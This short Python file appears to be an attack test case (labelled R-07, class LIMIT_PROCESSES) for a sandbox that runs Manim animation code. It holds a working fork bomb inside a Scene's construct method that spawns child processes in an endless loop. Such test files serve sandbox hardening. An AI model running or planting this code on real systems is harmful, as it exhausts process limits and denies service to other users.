# attack: R-07
# what: Fork in a loop, quietly.
# layer: control group
# static: rejected
# class: LIMIT_PROCESSES
import os
import time

from manim import *


class Attack(Scene):
    def construct(self):
        children = []
        while True:
            child = os.fork()
            if child == 0:
                time.sleep(60)
                os._exit(0)
            children.append(child)
        self.wait(0.1)
